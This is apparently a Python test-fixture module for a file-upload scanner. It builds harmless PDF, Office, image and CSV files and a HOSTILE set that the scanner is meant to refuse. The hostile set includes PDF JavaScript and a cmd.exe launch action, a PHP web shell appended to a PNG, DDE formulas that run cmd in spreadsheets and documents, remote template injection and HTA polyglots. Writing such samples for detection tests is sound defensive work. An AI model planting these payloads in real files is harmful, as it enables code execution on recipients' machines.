"""Evidence for tests: ordinary files of each kind, and those that hold what could run."""

import io
import struct
import zipfile
from collections.abc import Callable, Iterable, Mapping
from typing import Any

import openpyxl
import pikepdf
from pikepdf import Array, Dictionary, Name, String

OFFICE = "application/vnd.openxmlformats-officedocument"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def pdf(words: str = "Báo cáo", size: int = 0) -> bytes:
    """A page with nothing but its words in a stream; `size` in bytes, where it is to be larger."""
    stream = words.encode().ljust(size - 700, b" ")
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(stream), stream),
    ]
    written, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(written))
        written += b"%d 0 obj%s endobj\n" % (number, content)
    at = len(written)
    written += b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    written += b"trailer<</Size 5/Root 1 0 R>>\n"
    end = b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(written.ljust(size - len(end), b"\n") + end)


PDF = pdf()


def changed_pdf(change: Callable[[pikepdf.Pdf], None], **saving: Any) -> bytes:
    with pikepdf.open(io.BytesIO(PDF)) as document:
        change(document)
        written = io.BytesIO()
        document.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate, **saving)
    return written.getvalue()


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _on_opening(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = document.make_indirect(_script())


def _in_names(document: pikepdf.Pdf) -> None:
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script()])))


def _on_a_page(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=_script())


def _launches(document: pikepdf.Pdf) -> None:
    annotate(document, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))


def _fetches(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://example.org/?seen"))


def _holds_a_file(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = b"MZ"


def _in_an_annotation(document: pikepdf.Pdf) -> None:
    file = Dictionary(Type=Name.Filespec, F=String("a"), EF=Dictionary(F=document.make_stream(b"MZ")))
    annotate(document, Subtype=Name.FileAttachment, FS=file)


def _in_a_form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=document.make_stream(b"<xdp/>"))


def _links(document: pikepdf.Pdf) -> None:
    """As LibreOffice and Word write: links, bookmarks, the place to open at, a signature, a form to fill in."""
    page = document.pages[0].obj
    annotate(document, A=Dictionary(S=Name.URI, URI=String("https://tiencanh.gov.vn")))
    document.Root.OpenAction = Array([page, Name.XYZ, 0, 0, 0])
    document.Root.AA = Dictionary(WC=Dictionary(S=Name.GoTo, D=Array([page, Name.Fit])))
    signed = Dictionary(FT=Name.Sig, T=String("Ký số"), V=Dictionary(Type=Name.Sig, Contents=String(b"\x30\x00")))
    typed = Dictionary(FT=Name.Tx, T=String("Họ tên"))
    document.Root.AcroForm = Dictionary(Fields=Array([signed, typed]), SigFlags=3)
    with document.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Phần I", 0))


def annotate(document: pikepdf.Pdf, **said: Any) -> None:
    link = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": Array([0, 0, 9, 9])}
    document.pages[0].Annots = Array([document.make_indirect(Dictionary(**{**link, **said}))])


def package(parts: Mapping[str, bytes | str], **options: Any) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", options.get("compression", zipfile.ZIP_DEFLATED)) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


def docx(
    body: str = "<w:p><w:r><w:t>Báo cáo</w:t></w:r></w:p>",
    *,
    main: str = f"{OFFICE}.wordprocessingml.document.main+xml",
    types: str = "",
    related: Iterable[str] = (),
    parts: Mapping[str, bytes] | None = None,
) -> bytes:
    """A document of Word with more content types, relationships and parts."""
    relationships = "".join(f'<Relationship Id="r{number}" {said}/>' for number, said in enumerate(related, start=1))
    return package(
        {
            "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/>{types}</Types>',
            "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
            f'<Relationship Id="r1" Type="{RELATIONS}/officeDocument" Target="word/document.xml"/></Relationships>',
            "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>',
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
            f"{relationships}</Relationships>",
            **(parts or {}),
        }
    )


def pptx(parts: Mapping[str, bytes] | None = None) -> bytes:
    """A presentation with no slide."""
    main = override("ppt/presentation.xml", f"{OFFICE}.presentationml.presentation.main+xml")
    return package(
        {
            "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">'
            f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>{main}'
            "</Types>",
            "ppt/presentation.xml": "<presentation/>",
            **(parts or {}),
        }
    )


def xlsx(more: Mapping[str, bytes] | None = None, types: str = "") -> bytes:
    book, written = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"] = "Báo cáo"
    book.save(written)
    with zipfile.ZipFile(written) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    declared = parts["[Content_Types].xml"]
    return package(
        {**parts, "[Content_Types].xml": declared.replace(b"</Types>", f"{types}</Types>".encode()), **(more or {})}
    )


def override(part: str, kind: str) -> str:
    return f'<Override PartName="/{part}" ContentType="{kind}"/>'


def relationship(kind: str, target: str, *, external: bool = False) -> str:
    return f'Type="{RELATIONS}/{kind}" Target="{target}"' + (' TargetMode="External"' if external else "")


def field(*pieces: str) -> str:
    """A field of Word whose instruction is cut into runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def compound(*streams: tuple[str, bytes], storages: Iterable[str] = ()) -> bytes:
    """A compound file ([MS-CFB]) with streams and empty storages at its root."""
    sector, free, end = 512, 0xFFFFFFFF, 0xFFFFFFFE
    names = [
        ("Root Entry", 5, b""),
        *((name, 2, content.ljust(max(4096, -(-len(content) // sector) * sector), b"\0")) for name, content in streams),
    ]
    names += [(name, 1, b"") for name in storages]
    directory_sectors = -(-len(names) // 4)
    used = directory_sectors + sum(-(-len(content) // sector) for _, _, content in names)
    fat_sectors = next(count for count in range(1, 100) if count * 128 >= used + count)
    fat = [0xFFFFFFFD] * fat_sectors

    def chain(count: int) -> int:
        first = len(fat)
        fat.extend([*range(first + 1, first + count), end] if count else [])
        return first if count else end

    directory_at = chain(directory_sectors)
    entries, contents = [], []
    for number, (name, kind, content) in enumerate(names):
        wide = name.encode("utf-16-le") + b"\0\0"
        following = number + 1 if 0 < number < len(names) - 1 else free
        child = 1 if number == 0 and len(names) > 1 else free
        at = chain(len(content) // sector)
        entries.append(
            struct.pack(
                "<64sHBBIII16sIQQIQ", wide, len(wide), kind, 1, free, following, child, b"", 0, 0, 0, at, len(content)
            )
        )
        contents.append(content)
    directory = b"".join(entries).ljust(directory_sectors * sector, b"\0")
    fat += [free] * (fat_sectors * 128 - len(fat))
    header = OLE + struct.pack(
        "<16sHHHHH6sIIIIIIIII", b"", 0x3E, 3, 0xFFFE, 9, 6, b"", 0, fat_sectors, directory_at, 0, 4096, end, 0, end, 0
    )
    header += struct.pack("<109I", *range(fat_sectors), *[free] * (109 - fat_sectors))
    return header + struct.pack(f"<{len(fat)}I", *fat) + directory + b"".join(contents)


def word_97(pieces: Iterable[str], *, wide: bool = False, template: str = "") -> bytes:
    """A document of Word 97 whose text lies in pieces, the last one first."""
    encoded = [(piece, piece.encode("utf-16-le" if wide else "cp1252", "replace")) for piece in pieces]
    stream, places, ends = bytearray(0x600), list[int](), [0]
    for _, content in reversed(encoded):
        places.insert(0, len(stream))
        stream += content
    for piece, _ in encoded:
        ends.append(ends[-1] + len(piece))
    descriptors = b"".join(struct.pack("<xxIxx", place if wide else place * 2 | 0x40000000) for place in places)
    table = struct.pack(f"<{len(ends)}I", *ends) + descriptors
    clx = b"\x01\x02\0ab" + struct.pack("<BI", 2, len(table)) + table
    texts = ["", template, "Tên", *[""] * 15]
    associated = struct.pack("<HHH", 0xFFFF, len(texts), 0)
    associated += b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in texts)
    stream[: len(FIB)] = FIB
    struct.pack_into("<IIII", stream, 0x019A, 0, len(associated), len(associated), len(clx))
    return compound(("WordDocument", bytes(stream)), ("1Table", associated + clx))


def biff(*records: tuple[int, bytes]) -> bytes:
    """Records of Excel's stream."""
    return b"".join(struct.pack("<HH", kind, len(data)) + data for kind, data in records)


def sheet(kind: int) -> tuple[int, bytes]:
    return 0x0085, struct.pack("<IBB", 0, 0, kind) + b"\x01\x00A"


BOF = (0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
FIB = struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0, 0, 0x0200)
XLS = compound(("Workbook", biff(BOF, sheet(0))))
DOC = compound(("WordDocument", FIB), ("1Table", b""))
PPT = compound(("PowerPoint Document", struct.pack("<HHI", 0xF, 0x03E8, 0)))
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)) * 20 + b"\xff\xd9"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20
HTA = b"<html><hta:application id=a><script>new ActiveXObject('WScript.Shell')</script></html>"
VBA = compound(("PROJECT", b"x"), storages=["VBA"])
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
DDE_CELL = "=cmd|'/C calc'!A0"
ALT = relationship("aFChunk", "a.mht")

# Name under which it is sent → content, media type.
HARMLESS: dict[str, tuple[bytes, str]] = {
    "quet.pdf": (PDF, "application/pdf"),
    "co-lien-ket.pdf": (changed_pdf(_links), "application/pdf"),
    "khong-cho-sua.pdf": (changed_pdf(_links, encryption=pikepdf.Encryption(owner="x", user="")), "application/pdf"),
    "anh.jpg": (JPEG, "image/jpeg"),
    "anh-va-phim.jpg": (JPEG + b"\0\0\0\x18ftypmp42" + bytes(4000), "image/jpeg"),
    "anh.png": (PNG, "image/png"),
    "bao-cao.docx": (docx(), f"{OFFICE}.wordprocessingml.document"),
    "co-truong.docx": (
        docx(field(" PAGE ") + field("HYPERLINK ", '"https://a.vn"')),
        f"{OFFICE}.wordprocessingml.document",
    ),
    "mau-o-may.docx": (
        docx(related=[relationship("attachedTemplate", "file:///C:/Users/An/Mau.dotx", external=True)]),
        f"{OFFICE}.wordprocessingml.document",
    ),
    "co-bieu-do.docx": (
        docx(related=[relationship("package", "embeddings/a.xlsx")], parts={"word/embeddings/a.xlsx": xlsx()}),
        f"{OFFICE}.wordprocessingml.document",
    ),
    "bang.xlsx": (xlsx(), f"{OFFICE}.spreadsheetml.sheet"),
    "cu.doc": (DOC, "application/msword"),
    "cu.xls": (XLS, "application/vnd.ms-excel"),
    "cu.ppt": (PPT, "application/vnd.ms-powerpoint"),
    "ghi.txt": ("Đã họp, <script> chỉ là chữ".encode(), "text/plain"),
    "bang.csv": (b"a;b\r\n=A1+B1;-5\r\nx|y;z!\r\n", "text/csv"),
}

# Name under which it is sent → content, code of the refusal, what it says was found.
HOSTILE: dict[str, tuple[bytes, str, str]] = {
    "mo-la-chay.pdf": (changed_pdf(_on_opening), "evidence-active", "JavaScript"),
    "ten-la-chay.pdf": (changed_pdf(_in_names), "evidence-active", "JavaScript"),
    "trang-la-chay.pdf": (changed_pdf(_on_a_page), "evidence-active", "JavaScript"),
    "ten-viet-khac.pdf": (
        PDF.replace(b"<</Type/Page/", b"<</AA<</O<</S/Java#53cript/#4aS(1)>>>>/Type/Page/"),
        "evidence-active",
        "JavaScript",
    ),
    "an-trong-khoa.pdf": (
        changed_pdf(_on_opening, encryption=pikepdf.Encryption(owner="x", user="")),
        "evidence-active",
        "JavaScript",
    ),
    "chay-lenh.pdf": (changed_pdf(_launches), "evidence-active", "lệnh mở chương trình"),
    "goi-ve.pdf": (changed_pdf(_fetches), "evidence-active", "tự chạy khi mở"),
    "kem-tep.pdf": (changed_pdf(_holds_a_file), "evidence-active", "tệp đính kèm"),
    "kem-tep-chu-thich.pdf": (changed_pdf(_in_an_annotation), "evidence-active", "tệp đính kèm"),
    "bieu-mau.pdf": (changed_pdf(_in_a_form), "evidence-active", "XFA"),
    "co-khoa.pdf": (
        changed_pdf(_links, encryption=pikepdf.Encryption(owner="x", user="y")),
        "evidence-locked",
        "mật khẩu",
    ),
    "dau-pdf.hta": (b"%PDF-1.7\n" + HTA, "evidence-disguised", "HTML"),
    "duoi-hta.pdf": (PDF + HTA, "evidence-disguised", "HTML"),
    "trong-chu-thich.pdf": (PDF.replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + HTA + b"\n"), "evidence-disguised", "HTML"),
    "duoi-zip.pdf": (PDF + package({"a.exe": b"MZ"}), "evidence-disguised", "ZIP"),
    "dau-pdf.pdf": (b"%PDF-1.7\nkhong co gi", "evidence-broken", "lỗi"),
    "duoi-hta.jpg": (JPEG + HTA, "evidence-disguised", "HTML"),
    "duoi-php.png": (PNG + b"<?php system($_GET[1]) ?>", "evidence-disguised", "HTML"),
    "duoi-jar.png": (PNG + package({"META-INF/MANIFEST.MF": b"x"}), "evidence-disguised", "ZIP"),
    "doi-ten-docm.docx": (docx(main=MACRO_WORD), "evidence-active", "macro"),
    "macro-ten-khac.docx": (docx(parts={"word/media/anh.png": VBA}), "evidence-active", "OLE"),
    "macro.docx": (
        docx(types=override("word/a.bin", "application/vnd.ms-office.vbaProject"), parts={"word/a.bin": b"x"}),
        "evidence-active",
        "macro VBA",
    ),
    "doi-ten-xlsm.xlsx": (
        xlsx(types=override("xl/a.bin", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        "evidence-active",
        "macro",
    ),
    "xlm.xlsx": (
        xlsx(
            {"xl/macrosheets/sheet1.xml": b"<a/>"},
            override("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"),
        ),
        "evidence-active",
        "XLM",
    ),
    "dde.xlsx": (
        xlsx(
            {
                "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/>'
                b"</externalLink>"
            }
        ),
        "evidence-active",
        "DDE",
    ),
    "dde.docx": (docx(field(" DDE", "AUTO c:\\\\windows\\\\cmd.exe")), "evidence-active", "DDE"),
    "ole.docx": (docx(related=[relationship("oleObject", "embeddings/a.bin")]), "evidence-active", "OLE"),
    "activex.docx": (
        docx(types=override("word/activeX/a.xml", "application/vnd.ms-office.activeX+xml")),
        "evidence-active",
        "ActiveX",
    ),
    "mau-tu-mang.docx": (
        docx(related=[relationship("attachedTemplate", "https://example.org/a.dotm", external=True)]),
        "evidence-active",
        "tự tải",
    ),
    "mau-tu-may-khac.docx": (
        docx(related=[relationship("attachedTemplate", "\\\\10.0.0.1\\a.dotm", external=True)]),
        "evidence-active",
        "tự tải",
    ),
    "dang-khac.docx": (docx(related=[ALT]), "evidence-active", "dạng khác"),
    "trong-bieu-do.docx": (
        docx(parts={"word/embeddings/a.xlsx": docx(main=MACRO_WORD)}),
        "evidence-active",
        "macro",
    ),
    "dau-hta.docx": (HTA + docx(), "evidence-kind", "Chỉ nhận"),
    "duoi-hta.docx": (docx() + HTA, "evidence-disguised", "trước hoặc sau"),
    "thuc-the.docx": (
        docx(parts={"word/_rels/a.rels": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "evidence-broken",
        "lỗi",
    ),
    "vba.doc": (compound(("WordDocument", FIB), storages=["Macros", "VBA"]), "evidence-active", "macro VBA"),
    "ole.doc": (compound(("WordDocument", FIB), storages=["ObjectPool"]), "evidence-active", "OLE"),
    "dde.doc": (compound(("WordDocument", FIB + b"\x13 DDEAUTO c:\\cmd.exe\x14")), "evidence-active", "DDE"),
    "co-khoa.doc": (compound(("WordDocument", FIB[:10] + b"\x00\x01")), "evidence-locked", "mật khẩu"),
    "duoi-hta.doc": (DOC + HTA, "evidence-disguised", "HTML"),
    "vba.xls": (
        compound(("Workbook", biff(BOF, sheet(0))), storages=["_VBA_PROJECT_CUR"]),
        "evidence-active",
        "macro VBA",
    ),
    "xlm.xls": (compound(("Workbook", biff(BOF, sheet(0), sheet(1)))), "evidence-active", "XLM"),
    "xlm-95.xls": (
        compound(("Book", biff(BOF, (0x0809, struct.pack("<HH", 0x0500, 0x0040))))),
        "evidence-active",
        "XLM",
    ),
    "kem.xls": (compound(("Workbook", biff(BOF)), storages=["MBD00A1B2C3"]), "evidence-active", "OLE"),
    "co-khoa.xls": (compound(("Workbook", biff(BOF, (0x002F, b"\x01\x00")))), "evidence-locked", "mật khẩu"),
    "macro.ppt": (
        compound(("PowerPoint Document", struct.pack("<HHIIII", 2, 0x0400, 12, 1, 1, 2))),
        "evidence-active",
        "macro VBA",
    ),
    "khoa.docx": (compound(("EncryptedPackage", b"x"), ("EncryptionInfo", b"x")), "evidence-locked", "mật khẩu"),
    "cai-dat.doc": (compound(("!MsiTables", b"x")), "evidence-kind", "Chỉ nhận"),
    "trang.hta": (HTA, "evidence-kind", "Chỉ nhận"),
    "chay.csv": (b"a;b\r\nx;=cmd|'/C calc'!A0\r\n", "evidence-active", "DDE"),
}
